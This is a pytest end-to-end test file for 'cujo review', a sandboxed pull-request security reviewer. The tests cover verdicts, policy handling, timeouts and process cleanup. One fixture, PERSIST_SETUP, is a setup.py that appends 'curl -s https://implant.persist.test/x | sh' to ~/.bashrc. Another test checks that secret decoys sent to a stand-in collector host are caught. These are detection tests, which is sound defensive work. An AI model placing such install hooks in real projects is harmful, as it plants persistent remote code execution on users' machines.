"""`cujo review` end to end: real git repositories, the real sandbox, the real proxy.

Each test reviews a small repository with the `cujo` command a user runs and asserts the
verdict and the evidence it rests on (the `--json` object, the bundle and the record).
Expensive runs are module-scoped so several tests read one run. Only package registries
are reached: every other host in these fixtures is a `.test` name, which the proxy sinks.
"""

from __future__ import annotations

import json
import secrets
import shutil
import subprocess
import sys
import time
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from cujorun import (
    Cujo,
    Review,
    private_tmpdir,
    processes_with,
    run_folders_left,
    running_with,
)
from gitrepo import GitRepo
from repo_paths import TOP

from app_relay.store import Store
from cujo_action.checks.processes import kill_tree
from cujo_action.evidence.reader import read_bundle
from cujo_action.schema import CHECK_NAMES, READING_CHECKS, RUNNING_CHECKS, WHEN_NEEDED_CHECKS

DEMO = TOP / "examples" / "demo"

# A Python project that installs without the network: an empty requirements.txt makes
# it Python; the settled commands are pip -r, unittest discovery and compileall.
CALC = "def add(a, b):\n    return a + b\n"
CALC_TEST = """\
import unittest

from calc import add


class TestAdd(unittest.TestCase):
    def test_add(self):
        self.assertEqual(add(2, 3), 5)
"""
TINY = {"requirements.txt": "", "calc.py": CALC, "test_calc.py": CALC_TEST}
TINY_INSTALL = "python -m pip install -r requirements.txt"
TINY_TEST = "python -m unittest discover -v"

SECTION_10_KEYS = {
    "run_id",
    "state",
    "mode",
    "base_sha",
    "head_sha",
    "isolation",
    "plan",
    "checks",
    "findings",
    "record",
}


def findings(review: Review, rule: str) -> list[dict[str, Any]]:
    return [f for f in review.verdict["findings"] if f["rule"] == rule]


def unproven_of(review: Review, check: str) -> list[str]:
    return [line for line in review.verdict["unproven"] if line.startswith(f"{check}:")]


def assert_bound(review: Review, repo: GitRepo, head: str = "pr") -> None:
    """The verdict is about base main and this head, with the policy read at base."""
    verdict = review.verdict
    assert verdict["base_sha"] == repo.sha("main"), review
    assert verdict["head_sha"] == repo.sha(head), review
    assert verdict["plan"]["policy_from"] == repo.sha("main"), review


def assert_recorded(review: Review, state: str) -> None:
    record = review.record()
    assert record.state == state
    assert record.session_kind == "local"
    assert (record.base_sha, record.head_sha) == (
        review.verdict["base_sha"] or "0" * 40,
        review.verdict["head_sha"] or "0" * 40,
    )
    assert [f.id for f in record.findings] == [f["id"] for f in review.verdict["findings"]]
    assert list(record.unproven) == review.verdict["unproven"]


def policy(**settings: object) -> str:
    """Return a `.cujo.yml` text (JSON is YAML, and quotes every command safely)."""
    return json.dumps(settings) + "\n"


# --------------------------------------------------------------------------- the demo


def build_demo(root: Path) -> GitRepo:
    """Build the demo repository as run_demo.py does: base on main, two PR branches."""
    repo = GitRepo(root / "tinycalc")
    shutil.copytree(DEMO / "base", repo.path, dirs_exist_ok=True)
    repo.commit("tinycalc: add and sub")
    for branch in ("benign", "exfil"):
        repo.git("checkout", "--quiet", "-b", branch, "main")
        shutil.copytree(DEMO / branch, repo.path, dirs_exist_ok=True)
        repo.commit(f"the {branch} pull request")
    repo.checkout("main")
    return repo


@pytest.fixture(scope="module")
def demo(cujo: Cujo, tmp_path_factory: pytest.TempPathFactory) -> tuple[GitRepo, dict[str, Review]]:
    """Review both demo pull requests at once, into one record (as two terminals would)."""
    repo = build_demo(tmp_path_factory.mktemp("demo"))
    pending = {head: cujo.start(repo.path, head=head) for head in ("benign", "exfil")}
    return repo, {head: p.wait() for head, p in pending.items()}


def test_benign_demo_is_clean_with_the_documented_json(
    demo: tuple[GitRepo, dict[str, Review]],
) -> None:
    repo, reviews = demo
    review = reviews["benign"]
    verdict = review.verdict
    assert review.code == 0, review
    assert verdict["state"] == "clean", review
    assert verdict.keys() >= SECTION_10_KEYS
    assert verdict["mode"] == "sandbox"
    assert verdict["isolation"] in ("full", "partial")
    assert_bound(review, repo, "benign")
    assert verdict["base_sha"] != verdict["head_sha"]
    assert set(verdict["plan"]) >= {"install", "test", "smoke", "policy_from"}
    assert "pip install" in verdict["plan"]["install"]
    assert "unittest" in verdict["plan"]["test"]
    # Every check ran and produced evidence, the base's beside the head's; the benign
    # change has nothing to report.
    assert set(verdict["checks"]) == {*CHECK_NAMES, "base"}
    for name, check in verdict["checks"].items():
        assert set(check) >= {"status", "summary"}
        assert check["status"] == "ok", (name, check)
    assert verdict["findings"] == []
    assert verdict["unproven"] == []
    # The tests ran the head's new test of mul(), and passed.
    tests = review.report("tests")
    assert tests["commands"][0]["exit_code"] == 0
    assert "test_mul" in tests["commands"][0]["stderr_tail"]
    # The record holds the run as the JSON says, and points at the bundle.
    assert review.run_id in verdict["record"]
    assert str(review.data_dir / "cujo.db") in verdict["record"]
    assert_recorded(review, "clean")
    assert review.record().reports_dir == str(review.bundle)
    assert json.loads(review.record().plan_json or "{}")["policy_from"] == repo.sha("main")


def test_exfil_demo_is_blocked_by_the_decoy_it_sent(
    demo: tuple[GitRepo, dict[str, Review]],
) -> None:
    repo, reviews = demo
    review = reviews["exfil"]
    verdict = review.verdict
    assert review.code == 1, review
    assert verdict["state"] == "blocked", review
    assert_bound(review, repo, "exfil")
    install_hits = [f for f in findings(review, "decoy-egress") if f["check"] == "install"]
    assert install_hits, verdict["findings"]
    finding = install_hits[0]
    assert finding["severity"] == "critical"
    assert finding["id"] == "F1"  # the most severe finding comes first
    assert "collector.exfil.test" in finding["title"]
    # One finding per behaviour: the posts from install, detonation and smoke are one.
    assert [f for f in verdict["findings"] if "collector.exfil.test" in f["title"]] == [finding]
    assert {"decoy-egress", "install-egress"} <= set(finding["rules"])
    evidence = finding["evidence"]
    assert any(item["id"].startswith("install:egress:") for item in evidence)
    for item in evidence:
        assert item["host"] == "collector.exfil.test"
        assert item["phase"] in ("install", "smoke")
        if item["route"] == "dns":
            continue  # the client's lookup of the name: no proxy is set, it went straight out
        assert "AWS_SECRET_ACCESS_KEY" in item["decoy_seen"]
        # The proxy answered the collector itself: the decoy never left the machine.
        assert item["action"] == "sunk"
    assert_recorded(review, "blocked")
    assert any(f.rule == "decoy-egress" for f in review.record().findings)


def test_two_reviews_at_once_share_one_record(demo: tuple[GitRepo, dict[str, Review]]) -> None:
    _, reviews = demo
    ids = {review.run_id for review in reviews.values()}
    assert len(ids) == 2
    states = {review.record().state for review in reviews.values()}
    assert states == {"clean", "blocked"}


# --------------------------------------------------------------------------- policy


@pytest.fixture(scope="module")
def head_edits_policy(cujo: Cujo, pr_repo: Callable[..., GitRepo]) -> tuple[GitRepo, Review]:
    """Base runs one test module; head tries `test: "true"` and breaks that test."""
    base_test = "python -m unittest -v test_calc"
    repo = pr_repo(
        "head-policy",
        {**TINY, ".cujo.yml": policy(test=base_test)},
        {
            ".cujo.yml": policy(test="true", timeouts={"test": 1}),
            "test_calc.py": CALC_TEST.replace("5)", "6)"),
        },
    )
    return repo, cujo.review(repo.path)


def test_head_cannot_change_the_test_command(head_edits_policy: tuple[GitRepo, Review]) -> None:
    repo, review = head_edits_policy
    verdict = review.verdict
    assert_bound(review, repo)
    assert verdict["plan"]["policy_from"] != verdict["head_sha"]
    assert verdict["plan"]["test"] == "python -m unittest -v test_calc"
    # What ran is base's command, on head's code: the broken test fails.
    tests = review.report("tests")
    assert [c["cmd"] for c in tests["commands"]] == ["python -m unittest -v test_calc"]
    assert tests["status"] == "failed"
    assert len(findings(review, "tests-fail")) == 1
    # Head's timeouts were not used either (1s would not matter here, but must not be read).
    plan = json.loads((review.bundle / "plan.json").read_text())
    assert plan["policy"]["test"] == "python -m unittest -v test_calc"
    assert plan["policy"]["timeouts"]["test"] == 900


@pytest.mark.parametrize(
    ("text", "line", "key"),
    [
        pytest.param(
            "mode: sandbox\ntimeouts:\n  install: 60\n  tset: 5\n",
            4,
            "timeouts.tset",
            id="unknown-key",
        ),
        pytest.param("mode: sandbox\n\non_error: sometimes\n", 3, "on_error", id="bad-value"),
    ],
)
def test_a_malformed_policy_at_base_is_an_error_naming_file_line_and_key(
    cujo: Cujo, pr_repo: Callable[..., GitRepo], text: str, line: int, key: str
) -> None:
    repo = pr_repo("bad-policy", {**TINY, ".cujo.yml": text}, {"calc.py": CALC + "\n"})
    review = cujo.review(repo.path)
    verdict = review.verdict
    assert review.code == 3, review
    assert verdict["state"] == "error"
    assert f".cujo.yml:{line}" in verdict["summary"]
    assert key in verdict["summary"]
    assert verdict["findings"] == []
    assert verdict["checks"] == {}
    # The commits are known even though no plan was made.
    assert (verdict["base_sha"], verdict["head_sha"]) == (repo.sha("main"), repo.sha("pr"))
    failure = json.loads((review.bundle / "failure.json").read_text())
    assert (failure["stage"], failure["path"], failure["line"], failure["key"]) == (
        "policy",
        ".cujo.yml",
        line,
        key,
    )
    assert_recorded(review, "error")


# --------------------------------------------------------------------------- not reviewable


def test_a_folder_that_is_not_a_repository_is_an_error(cujo: Cujo, tmp_path: Path) -> None:
    (tmp_path / "README.md").write_text("not a repository\n")
    review = cujo.review(tmp_path, as_json=False, verbose=True)
    assert review.code == 3, review
    assert "ERROR" in review.stdout
    assert f"{tmp_path} is not a git repository" in review.stdout
    assert "says nothing about the pull request" in review.stdout
    assert "is not a git repository" in review.stderr


def test_a_folder_inside_a_repository_is_not_that_repository(
    cujo: Cujo, pr_repo: Callable[..., GitRepo]
) -> None:
    repo = pr_repo("enclosing", {**TINY, "docs/index.md": "# docs\n"}, {"calc.py": CALC + "\n"})
    review = cujo.review(repo.path / "docs")
    verdict = review.verdict
    assert review.code == 3, review
    assert "is not a git repository" in verdict["summary"]
    # Neither the verdict nor the record borrows the enclosing repository's commits.
    assert (verdict["base_sha"], verdict["head_sha"]) == (None, None)
    assert_recorded(review, "error")


def test_a_missing_folder_is_an_error(cujo: Cujo, tmp_path: Path) -> None:
    review = cujo.review(tmp_path / "nowhere")
    assert review.code == 3, review
    assert review.verdict["state"] == "error"
    assert "no such directory" in review.verdict["summary"]


@pytest.mark.parametrize("which", ["base", "head"])
def test_an_unknown_ref_is_an_error_naming_it(
    cujo: Cujo, pr_repo: Callable[..., GitRepo], which: str
) -> None:
    repo = pr_repo("unknown-ref", TINY, {"calc.py": CALC + "\n"})
    refs = {"base": "main", "head": "pr", which: "no-such-branch"}
    review = cujo.review(repo.path, base=refs["base"], head=refs["head"])
    verdict = review.verdict
    assert review.code == 3, review
    assert verdict["state"] == "error"
    assert "'no-such-branch' is not a branch, tag or commit" in verdict["summary"]
    known = "head" if which == "base" else "base"
    assert verdict[f"{which}_sha"] is None
    assert verdict[f"{known}_sha"] == repo.sha(refs[known])
    assert_recorded(review, "error")


def test_nothing_recognisable_is_unproven_saying_why(
    cujo: Cujo, pr_repo: Callable[..., GitRepo]
) -> None:
    main_go = "package main\n\nfunc main() {}\n"
    repo = pr_repo(
        "unrecognised",
        {"README.md": "# a Go tool\n", "main.go": main_go},
        {"main.go": main_go.replace("{}", '{ println("hi") }')},
    )
    review = cujo.review(repo.path)
    verdict = review.verdict
    assert review.code == 4, review
    assert verdict["state"] == "unproven", review
    assert_bound(review, repo)
    assert verdict["plan"] | {"policy_from": ""} == {
        "install": "",
        "test": "",
        "smoke": "",
        "policy_from": "",
    }
    assert verdict["unproven"][0].startswith("plan: No build files were found at head")
    assert "No build files were found" in verdict["summary"]
    # Nothing of the project ran; what reads CI files needs no plan, and found none changed.
    statuses = {name: c["status"] for name, c in verdict["checks"].items()}
    assert {statuses[name] for name in RUNNING_CHECKS} == {"skipped"}, statuses
    assert {statuses[name] for name in READING_CHECKS} == {"ok"}, statuses
    # The base runs no head code in a privileged workflow: nothing to run there.
    assert {statuses[name] for name in WHEN_NEEDED_CHECKS} == {"ok"}, statuses
    assert verdict["findings"] == []
    assert_recorded(review, "unproven")


# --------------------------------------------------------------------------- cut off


@pytest.mark.parametrize("phase", ["install", "test"])
def test_a_hang_is_cut_off_and_unproven(
    cujo: Cujo, pr_repo: Callable[..., GitRepo], phase: str
) -> None:
    # The command ignores SIGTERM, so only the jail's SIGKILL of the group ends it.
    hang = "trap '' TERM; sleep 600"
    repo = pr_repo(
        f"hang-{phase}",
        {**TINY, ".cujo.yml": policy(**{phase: hang}, timeouts={phase: 3})},
        {"calc.py": CALC + "\n"},
    )
    review = cujo.review(repo.path)
    verdict = review.verdict
    assert review.code == 4, review
    assert verdict["state"] == "unproven", review
    check = "install" if phase == "install" else "tests"
    assert verdict["checks"][check]["status"] == "failed"
    assert "timeout" in verdict["checks"][check]["summary"]
    # The timed-out command is named in what is unproven.
    lines = unproven_of(review, check)
    assert len(lines) == 1, verdict["unproven"]
    assert f"`{hang}` timed out" in lines[0]
    command = review.report(check)["commands"][-1]
    assert (command["cmd"], command["timed_out"], command["exit_code"]) == (hang, True, None)
    assert command["duration_s"] < 60  # cut off at its own timeout, not the harness deadline
    if phase == "install":
        # Nothing ran on top of an install that never finished.
        for later in ("tests", "probes", "smoke"):
            assert verdict["checks"][later]["status"] == "skipped"
            # ...and each says why: the install timed out, not merely "failed".
            assert (
                "install failed (the install ran past its 3s timeout)"
                in (verdict["checks"][later]["summary"])
            )
    else:
        # Only the hang is unproven: the rest of the run produced evidence.
        assert [line.split(":")[0] for line in verdict["unproven"]] == ["tests"]
    assert_recorded(review, "unproven")


# --------------------------------------------------------------------------- build tools


PACKAGE_JSON = json.dumps(
    {
        "name": "tiny-node",
        "version": "1.0.0",
        "private": True,
        "dependencies": {"is-number": "7.0.0"},
        "scripts": {"test": "node test.js"},
    },
    indent=2,
)
NODE_FILES = {
    "package.json": PACKAGE_JSON + "\n",
    "index.js": "const isNumber = require('is-number');\nmodule.exports = (x) => isNumber(x);\n",
    "test.js": (
        "const check = require('./index.js');\n"
        "if (!check(5) || check('five')) { console.error('wrong'); process.exit(1); }\n"
        "console.log('ok');\n"
    ),
}
NODE_HEAD = {"index.js": NODE_FILES["index.js"] + "// a comment\n"}


def test_a_missing_build_tool_is_unproven_naming_it(
    cujo: Cujo, pr_repo: Callable[..., GitRepo], tmp_path: Path
) -> None:
    # A PATH with git and nothing else: npm is not there (python is the console
    # script's own, by absolute path).
    tools = tmp_path / "bin"
    tools.mkdir()
    git = shutil.which("git")
    assert git
    (tools / "git").symlink_to(git)
    repo = pr_repo("no-npm", NODE_FILES, NODE_HEAD)
    review = cujo.review(repo.path, path=str(tools))
    verdict = review.verdict
    assert review.code == 4, review
    assert verdict["state"] == "unproven", review
    assert_bound(review, repo)
    assert verdict["unproven"][0].startswith("plan: npm is not on PATH")
    # Every check that needs npm says so; none claims to have run it.
    for check in ("install", "detonation", "tests", "smoke"):
        assert verdict["checks"][check]["status"] == "skipped"
        assert "npm is not on PATH" in verdict["checks"][check]["summary"]
    for check in CHECK_NAMES:
        assert not any("npm" in c["cmd"] for c in review.report(check)["commands"]), check
    assert verdict["plan"]["install"] == verdict["plan"]["test"] == ""
    assert_recorded(review, "unproven")


@pytest.mark.slow
def test_a_node_project_installs_from_npm_through_the_proxy(
    cujo: Cujo, pr_repo: Callable[..., GitRepo]
) -> None:
    if shutil.which("npm") is None:
        pytest.skip("npm is not installed on this machine")
    repo = pr_repo("node", NODE_FILES, NODE_HEAD)
    review = cujo.review(repo.path)
    verdict = review.verdict
    assert review.code == 0, review
    assert verdict["state"] == "clean", review
    assert_bound(review, repo)
    assert verdict["plan"]["install"].startswith("npm install")
    assert verdict["plan"]["test"] == "npm test"
    assert verdict["findings"] == []
    egress = review.report("install")["egress"]
    registry = [e for e in egress if e["host"] == "registry.npmjs.org"]
    assert registry, egress
    assert all(e["action"] == "forwarded" and e["phase"] == "install" for e in registry)
    assert any("is-number" in e["url"] for e in registry)
    assert {e["host"] for e in egress} == {"registry.npmjs.org"}
    # The suite ran against the installed dependency.
    tests = review.report("tests")
    assert tests["status"] == "ok"
    assert "ok" in tests["commands"][0]["stdout_tail"]
    assert_recorded(review, "clean")


# --------------------------------------------------------------------------- behaviour


PERSIST_SETUP = """\
import os

from setuptools import setup

with open(os.path.expanduser("~/.bashrc"), "a") as profile:
    profile.write("curl -s https://implant.persist.test/x | sh\\n")

setup(name="persist", version="0.1", py_modules=["persist"])
"""


@pytest.mark.slow
def test_an_install_that_writes_a_shell_profile_is_blocked(
    cujo: Cujo, pr_repo: Callable[..., GitRepo]
) -> None:
    plain = 'from setuptools import setup\n\nsetup(name="persist", version="0.1")\n'
    repo = pr_repo(
        "persist",
        {"setup.py": plain, "persist.py": "X = 1\n"},
        {"setup.py": PERSIST_SETUP},
    )
    review = cujo.review(repo.path)
    verdict = review.verdict
    assert review.code == 1, review
    assert verdict["state"] == "blocked", review
    hits = findings(review, "shell-profile-write")
    assert hits, verdict["findings"]
    install = [f for f in hits if f["check"] == "install"]
    assert install, hits
    assert install[0]["severity"] == "critical"
    # One finding per behaviour: the detonation's install writes the same profile.
    evidence = install[0]["evidence"]
    first = evidence[0]
    assert first["id"].startswith("install:obs:")
    assert first["kind"] == "shell_profile_write"
    assert "changed" in first["detail"]
    assert {item.get("path") for item in evidence} == {"~/.bashrc"}
    assert_recorded(review, "blocked")


def test_failing_tests_are_a_warning_not_a_block(
    cujo: Cujo, pr_repo: Callable[..., GitRepo]
) -> None:
    # A failing suite is evidence (docs/design.md sections 3, 7): the run is clean, warned.
    repo = pr_repo("failing", TINY, {"calc.py": CALC.replace("a + b", "a - b")})
    review = cujo.review(repo.path)
    verdict = review.verdict
    assert review.code == 0, review
    assert verdict["state"] == "clean", review
    assert verdict["plan"]["install"] == TINY_INSTALL
    assert verdict["plan"]["test"] == TINY_TEST
    assert verdict["checks"]["tests"]["status"] == "failed"
    (finding,) = verdict["findings"]
    assert (finding["rule"], finding["severity"], finding["check"]) == (
        "tests-fail",
        "warn",
        "tests",
    )
    # The suite's failure, then each failing test the runner named (compared with base).
    evidence, *named = finding["evidence"]
    assert evidence["kind"] == "tests_failed"
    assert "FAILED" in evidence["detail"]
    assert [(e["kind"], e["path"]) for e in named] == [
        ("failing_test", "test_calc.TestAdd.test_add")
    ], named
    assert "also 1 warning" in verdict["summary"]
    assert_recorded(review, "clean")


# --------------------------------------------------------------------------- interrupted


def hanging_test(marker: str) -> str:
    """Return a test command that hangs, ignores SIGTERM, and carries ``marker``."""
    return (
        'python -c "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); '
        f'time.sleep(600)" {marker}'
    )


def test_interrupting_a_review_leaves_no_process_of_the_pull_request(
    cujo: Cujo, pr_repo: Callable[..., GitRepo]
) -> None:
    marker = f"cujo-e2e-{secrets.token_hex(6)}"
    repo = pr_repo(
        "interrupt",
        {**TINY, ".cujo.yml": policy(test=hanging_test(marker))},
        {"calc.py": CALC + "\n"},
    )
    tmp = private_tmpdir()
    pending = cujo.start(repo.path, tmpdir=tmp, verbose=True)
    said = pending.wait_for("tests: test: $")
    run_id = said.split("(run ", 1)[1].split(")", 1)[0]
    assert running_with(marker), "the hanging test should be running before Ctrl-C"
    assert run_folders_left(tmp), "the run's work folder should be there while it runs"
    pending.interrupt()
    review = pending.wait()
    assert review.code == 3, review
    assert "interrupted" in review.stderr
    # Nothing the pull request started outlives the review, and its work folder is gone.
    assert processes_with(marker) == []
    assert processes_with(run_id) == []
    assert run_folders_left(tmp) == []
    shutil.rmtree(tmp, ignore_errors=True)
    with Store(f"sqlite:///{review.data_dir / 'cujo.db'}") as store:
        record = store.get_run(run_id)
    assert record.state == "error"
    assert "interrupted" in record.summary


def test_a_cancelled_sandbox_stops_its_checks_and_says_so(
    cujo: Cujo, pr_repo: Callable[..., GitRepo], tmp_path: Path
) -> None:
    # What the Actions runner does when a job is cancelled: SIGTERM to the entry process.
    marker = f"cujo-e2e-{secrets.token_hex(6)}"
    repo = pr_repo(
        "cancel",
        {**TINY, ".cujo.yml": policy(test=hanging_test(marker))},
        {"calc.py": CALC + "\n"},
    )
    out = tmp_path / "bundle"
    tmp = private_tmpdir()
    pending = cujo.start_sandbox(repo.path, "cancel-1", out, tmpdir=tmp)
    pending.wait_for("tests: test: $")
    assert running_with(marker)
    assert run_folders_left(tmp), "the run's work folder should be there while it runs"
    pending.terminate()
    done = pending.wait()
    assert done.code == 3, done
    assert "interrupted (SIGTERM)" in done.stderr
    assert processes_with(marker) == []
    assert processes_with("cancel-1") == []
    assert run_folders_left(tmp) == []
    shutil.rmtree(tmp, ignore_errors=True)
    # The bundle is whole and says why there is no verdict to give.
    bundle = read_bundle(out, run_id="cancel-1")
    assert bundle.failure is not None
    assert "interrupted (SIGTERM)" in bundle.failure.reason


def test_kill_tree_reaches_processes_that_left_the_group(tmp_path: Path) -> None:
    # A parent whose child started a session of its own, and a grandchild in that session.
    marker = f"cujo-tree-{secrets.token_hex(6)}"
    script = (
        "import os, subprocess, sys, time\n"
        f"cmd = [sys.executable, '-c', 'import time; time.sleep(600)', {marker!r}]\n"
        "subprocess.Popen(cmd, start_new_session=True)\n"
        "subprocess.Popen(['bash', '-c', 'setsid ' + ' '.join(repr(c) for c in cmd) + ' & wait'])\n"
        "print('ready', flush=True)\n"
        "time.sleep(600)\n"
    )
    parent = subprocess.Popen(
        [sys.executable, "-c", script, marker], stdout=subprocess.PIPE, text=True
    )
    assert parent.stdout is not None
    assert parent.stdout.readline().strip() == "ready"
    try:
        # The parent, its child, bash, and the grandchild bash starts (a moment after
        # "ready": the parent does not wait for it).
        deadline = time.monotonic() + 60
        while len(processes_with(marker)) < 4 and time.monotonic() < deadline:
            time.sleep(0.02)
        assert len(processes_with(marker)) >= 4, processes_with(marker)
        assert kill_tree(parent.pid) >= 3
        parent.wait(timeout=30)
        # SIGKILL is sent, not awaited: a killed orphan may still be exiting (and is reaped
        # by whoever adopted it). One that was missed would sleep on for ten minutes.
        deadline = time.monotonic() + 30
        while processes_with(marker) and time.monotonic() < deadline:
            time.sleep(0.02)
        assert processes_with(marker) == []
    finally:
        if parent.poll() is None:
            parent.kill()
            parent.wait()
        parent.stdout.close()
